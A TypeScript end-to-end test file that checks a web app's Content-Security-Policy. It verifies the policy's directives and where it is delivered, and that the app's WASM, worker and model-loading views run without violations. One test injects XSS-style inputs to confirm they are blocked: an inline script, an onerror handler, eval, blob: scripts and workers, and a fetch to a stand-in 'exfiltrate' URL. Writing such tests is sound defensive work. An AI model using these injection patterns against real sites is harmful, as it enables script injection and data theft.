// End to end: the built site under its Content-Security-Policy (scripts/vite-csp.ts): the <meta> in
// index.html and the header `vite preview` sends. Every path that compiles WebAssembly, starts a
// worker or fetches a model runs under it — the map, TF-IDF/SVD, IVF and Jina searches (DuckDB-WASM,
// hyparquet, onnxruntime-web), the detail panel, the duplicates view with a group's diff and graph,
// the statistics and clusters views, VAE training (tfjs WASM) — with zero violations, counted both
// from the page's `securitypolicyviolation` events and from Chromium's log (the only place a
// worker's violations show), while an injected inline script, eval, a blob: worker, a foreign fetch
// and framing are refused.
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { CSP_DIRECTIVES, contentSecurityPolicy } from '../../scripts/vite-csp.ts';
import { launchBrowser, openPage, type Browser } from './helpers/browser.ts';
import { prebuildDataSet } from './helpers/data.ts';
import { ROOT, buildSite, copyDataSet, startPreview, type Preview } from './helpers/site.ts';

let work: string;
let dist: string;
let preview: Preview;
let browser: Browser;

interface Watched {
  page: Page;
  /** Console errors and uncaught exceptions (openPage's list). */
  errors: string[];
  /** Every CSP violation seen: page events and Chromium log entries (workers included). */
  violations(): Promise<string[]>;
}

/** A fresh page that records CSP violations of the document and of every worker it starts. */
async function watchedPage(): Promise<Watched> {
  const { page, errors } = await openPage(browser.context);
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { __csp: string[] }).__csp = seen;
    document.addEventListener('securitypolicyviolation', (e) => seen.push(`${e.effectiveDirective} blocked ${e.blockedURI || 'inline'} (${e.sourceFile}:${e.lineNumber})`));
  });
  const logged: string[] = [];
  const cdp = await browser.context.newCDPSession(page);
  cdp.on('Log.entryAdded', ({ entry }) => {
    if (/Content Security Policy/i.test(entry.text)) logged.push(`${entry.source}: ${entry.text} (${entry.url ?? ''})`);
  });
  await cdp.send('Log.enable');
  return {
    page,
    errors,
    async violations() {
      const events = await page.evaluate(() => (window as unknown as { __csp?: string[] }).__csp ?? []).catch(() => [] as string[]);
      return [...events, ...logged];
    },
  };
}

async function waitForSearch(page: Page): Promise<number[]> {
  const status = page.locator('[data-testid="search-status"][data-status="done"], [data-testid="search-status"][data-status="error"]');
  await status.waitFor({ timeout: 120_000 });
  expect(await status.getAttribute('data-status'), (await status.textContent()) ?? '').toBe('done');
  return page.locator('[data-testid="search-results"] li').evaluateAll((lis) => lis.map((li) => Number(li.getAttribute('data-id'))));
}

beforeAll(async () => {
  work = mkdtempSync(join(tmpdir(), 'atlas-e2e-csp-'));
  dist = join(work, 'dist');
  const [data] = await Promise.all([prebuildDataSet(join(ROOT, '.cache', 'e2e-data')), buildSite(dist)]);
  copyDataSet(data.dir, join(dist, 'data'));
  preview = await startPreview(dist);
  browser = await launchBrowser();
});

afterAll(async () => {
  await browser?.close();
  await preview?.stop();
  if (work) rmSync(work, { recursive: true, force: true });
});

describe('Content-Security-Policy', () => {
  it('is strict: no unsafe-eval, no inline or blob: scripts, nothing from other origins, no plugins, no framing', () => {
    const script = CSP_DIRECTIVES['script-src']!;
    expect(script).toEqual(["'self'", "'wasm-unsafe-eval'"]);
    const all = Object.values(CSP_DIRECTIVES).flat();
    expect(all).not.toContain("'unsafe-eval'");
    expect(all.filter((s) => s === '*' || /^https?:/.test(s))).toEqual([]);
    for (const d of ['default-src', 'worker-src', 'connect-src']) expect(CSP_DIRECTIVES[d], d).toEqual(["'self'"]);
    expect(CSP_DIRECTIVES['object-src']).toEqual(["'none'"]);
    expect(CSP_DIRECTIVES['base-uri']).toEqual(["'none'"]);
    expect(CSP_DIRECTIVES['frame-ancestors']).toEqual(["'none'"]);
    // style="" attributes in markup are refused; only <style> elements (Observable Plot's) are inline.
    expect(CSP_DIRECTIVES['style-src-attr']).toEqual(["'none'"]);
    expect(contentSecurityPolicy({ forMeta: true })).not.toContain('frame-ancestors');
  });

  it('sits in the built index.html before any script, and vite preview sends it as a header on the page and on workers', async () => {
    const html = readFileSync(join(dist, 'index.html'), 'utf8');
    const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html);
    expect(meta, 'a CSP meta tag').not.toBeNull();
    expect(meta!.index).toBeLessThan(html.indexOf('<script'));
    expect(meta![1]!.replaceAll('&#39;', "'")).toBe(contentSecurityPolicy({ forMeta: true }));
    // No inline script in the built page: every script is a file.
    expect(html.match(/<script(?![^>]*\bsrc=)[^>]*>/g) ?? []).toEqual([]);
    const page = await fetch(preview.url);
    expect(page.headers.get('content-security-policy')).toBe(contentSecurityPolicy());
    // A worker's policy comes from its own response: the workers' scripts carry the header too. The
    // search worker gets the strict one; the data worker and DuckDB's workers (which DuckDB-WASM
    // needs to eval in) get it with 'unsafe-eval' added and nothing else changed.
    const assets = readdirSync(join(dist, 'assets'));
    const headerOf = async (re: RegExp): Promise<string | null> => {
      const file = assets.find((f) => re.test(f));
      expect(file, String(re)).toBeDefined();
      const r = await fetch(new URL(`assets/${file}`, preview.url));
      expect(r.ok).toBe(true);
      return r.headers.get('content-security-policy');
    };
    expect(await headerOf(/^search-[\w-]+\.js$/)).toBe(contentSecurityPolicy());
    const loose = contentSecurityPolicy().replace("'wasm-unsafe-eval'", "'wasm-unsafe-eval' 'unsafe-eval'");
    expect(await headerOf(/^data-[\w-]+\.js$/)).toBe(loose);
    expect(await headerOf(/^duckdb-browser-eh\.worker-[\w-]+\.js$/)).toBe(loose);
  });

  it('loads the map and searches with TF-IDF/SVD, IVF and the Jina model on WASM, and opens a function, with zero violations', async () => {
    const { page, errors, violations } = await watchedPage();
    await page.goto(`${preview.url}#/map`);
    await page.locator('[data-testid="map"][data-points]').waitFor({ timeout: 60_000 });
    expect(Number(await page.locator('[data-testid="map"]').getAttribute('data-points'))).toBeGreaterThan(100);
    await page.locator('[data-testid="search-input"]').fill('read a configuration file');
    await page.locator('[data-testid="search-submit"]').click();
    expect(await waitForSearch(page)).toHaveLength(100);
    const q = encodeURIComponent('parse a date string');
    for (const extra of ['&ivf=1', '&emb=jina']) {
      await page.goto(`${preview.url}#/map?q=${q}&k=20${extra}`);
      await page.reload();
      expect(await waitForSearch(page), extra).toHaveLength(20);
    }
    // The Jina model ran on onnxruntime-web's WASM, imported from the site under script-src 'self'.
    expect(await page.locator('[data-testid="embed-model"]').getAttribute('data-device')).toBe('wasm');
    await page.goto(`${preview.url}#/map?fn=3`);
    await page.reload();
    await page.locator('[data-testid="detail-code"]').waitFor({ timeout: 60_000 });
    expect(await violations()).toEqual([]);
    expect(errors).toEqual([]);
    await page.close();
  });

  it('opens the duplicates view, a group’s diff and graph, the statistics and the clusters views with zero violations', async () => {
    const { page, errors, violations } = await watchedPage();
    await page.goto(`${preview.url}#/dedup`);
    await page.locator('[data-view="dedup"][data-ready="true"]').waitFor({ timeout: 90_000 });
    await page.locator('[data-testid="dedup-groups"] button[data-open-group]').first().click();
    await page.locator('[data-testid="group-detail"][data-ready="true"]').waitFor({ timeout: 60_000 });
    expect(await page.locator('[data-testid="code-diff"] .row').count()).toBeGreaterThan(0);
    await page.locator('[data-testid="group-graph"][data-ready="true"]').waitFor({ timeout: 90_000 });
    await page.goto(`${preview.url}#/stats`);
    await page.locator('[data-view="stats"][data-ready="true"]').waitFor({ timeout: 90_000 });
    // Observable Plot's charts drew, with their inline <style> element allowed.
    expect(await page.locator('[data-chart] svg').count()).toBeGreaterThan(0);
    // DuckDB-WASM ran (its worker is served with the one looser policy), not the prebuild fallback.
    expect(await page.locator('[data-testid="stats-engine"]').textContent()).toMatch(/DuckDB-WASM[\s\S]*Identical/);
    await page.goto(`${preview.url}#/clusters`);
    await page.locator('[data-view="clusters"][data-ready="true"]').waitFor({ timeout: 60_000 });
    expect(await violations()).toEqual([]);
    expect(errors).toEqual([]);
    await page.close();
  });

  it('trains the VAE in the browser on tfjs WASM with zero violations', async () => {
    const { page, errors, violations } = await watchedPage();
    await page.goto(`${preview.url}#/train`);
    await page.locator('[data-testid="train-backend"]').waitFor({ timeout: 60_000 });
    expect(await page.locator('[data-testid="train-backend"]').textContent()).toBe('wasm');
    await page.locator('[data-testid="train-epochs"]').fill('2');
    await page.locator('[data-testid="train-start"]').click();
    await page.locator('[data-testid="train-show-map"]').waitFor({ timeout: 120_000 });
    expect(await page.locator('[data-testid="train-epochs-table"] tbody tr').count()).toBe(2);
    expect(await violations()).toEqual([]);
    expect(errors).toEqual([]);
    await page.close();
  });

  it('blocks an injected inline script, inline handlers, eval, blob: scripts and workers, style attributes and foreign fetches', async () => {
    const { page, violations } = await watchedPage();
    await page.goto(`${preview.url}#/map`);
    await page.locator('[data-testid="map"][data-points]').waitFor({ timeout: 60_000 });
    const outcome = await page.evaluate(async () => {
      const w = window as unknown as Record<string, unknown>;
      const s = document.createElement('script');
      s.textContent = 'window.__inline = 1';
      document.head.append(s);
      const img = document.createElement('div');
      img.innerHTML = '<img src="data:," onerror="window.__handler = 1" onload="window.__handler = 1">';
      document.body.append(img);
      // eval and new Function, called from the page's own task (code the test evaluates directly is
      // exempt from CSP as DevTools code).
      const { evalResult, fnResult } = await new Promise<{ evalResult: string; fnResult: string }>((ok) =>
        setTimeout(() => {
          let evalResult = 'ran';
          try {
            (0, eval)('window.__eval = 1');
          } catch (e) {
            evalResult = (e as Error).name;
          }
          let fnResult = 'ran';
          try {
            new Function('return 1')();
          } catch (e) {
            fnResult = (e as Error).name;
          }
          ok({ evalResult, fnResult });
        }, 0),
      );
      const blobUrl = URL.createObjectURL(new Blob(['window.__blob = 1'], { type: 'text/javascript' }));
      const bs = document.createElement('script');
      bs.src = blobUrl;
      const blobLoaded = await new Promise<boolean>((ok) => {
        bs.onload = () => ok(true);
        bs.onerror = () => ok(false);
        document.head.append(bs);
      });
      const workerResult = await new Promise<string>((ok) => {
        try {
          const wk = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' })));
          wk.onmessage = () => ok('ran');
          wk.onerror = () => ok('refused');
        } catch (e) {
          ok((e as Error).name);
        }
      });
      const styled = document.createElement('div');
      styled.innerHTML = '<p id="__styled" style="color: rgb(255, 0, 0)">x</p>';
      document.body.append(styled);
      const color = getComputedStyle(document.getElementById('__styled')!).color;
      let fetchResult = 'fetched';
      try {
        await fetch('https://example.org/exfiltrate');
      } catch (e) {
        fetchResult = (e as Error).name;
      }
      await new Promise((r) => setTimeout(r, 300));
      return { inline: w.__inline, handler: w.__handler, eval: w.__eval, evalResult, fnResult, blob: w.__blob, blobLoaded, workerResult, color, fetchResult };
    });
    expect(outcome.inline).toBeUndefined();
    expect(outcome.handler).toBeUndefined();
    expect(outcome.eval).toBeUndefined();
    expect(outcome.evalResult).toBe('EvalError');
    expect(outcome.fnResult).toBe('EvalError');
    expect(outcome.blob).toBeUndefined();
    expect(outcome.blobLoaded).toBe(false);
    expect(['refused', 'SecurityError']).toContain(outcome.workerResult);
    expect(outcome.color).not.toBe('rgb(255, 0, 0)');
    expect(outcome.fetchResult).toBe('TypeError');
    // Each refusal was reported as a violation of the directive that governs it.
    const seen = (await violations()).join('\n');
    for (const d of [/script-src-elem blocked inline/, /script-src-attr blocked inline/, /script-src blocked eval/, /script-src-elem blocked blob/, /worker-src blocked blob/, /style-src-attr blocked inline/, /connect-src blocked https:\/\/example\.org/]) {
      expect(seen, String(d)).toMatch(d);
    }
    await page.close();
  });

  it('refuses to be framed by another page (frame-ancestors, from the header)', async () => {
    const { page } = await openPage(browser.context);
    const blocked = new Promise<string>((ok) => page.on('console', (m) => /frame-ancestors/.test(m.text()) && ok(m.text())));
    await page.setContent(`<iframe id="f" src="${preview.url}#/map"></iframe>`);
    expect(await Promise.race([blocked, new Promise<string>((ok) => setTimeout(() => ok('not refused'), 15_000))])).toMatch(/frame-ancestors 'none'/);
    const frame = page.frames().find((f) => f !== page.mainFrame());
    expect(await frame?.locator('[data-testid="map"]').count().catch(() => 0)).toBe(0);
    await page.close();
  });
});
